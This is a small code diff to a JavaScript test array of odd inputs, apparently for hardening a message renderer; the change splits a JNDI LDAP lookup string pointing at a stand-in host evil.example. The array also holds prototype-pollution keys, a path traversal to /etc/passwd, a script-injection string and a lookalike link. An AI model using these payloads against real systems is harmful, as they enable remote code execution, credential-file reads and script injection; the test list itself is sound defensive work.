@@ -21,7 +21,7 @@ const oddTexts = [
   '__proto__',
   'constructor',
   '../../etc/passwd',
-  '${jndi:ldap://evil.example/a}',
+  '$' + '{jndi:ldap://evil.example/a}',
   '{{DATE(2026-01-01T00:00:00Z,SHORT)}}',
   '[click](https://evil.example)',
   '<at>Upgrade Assistant</at> <script>alert(1)</script>',
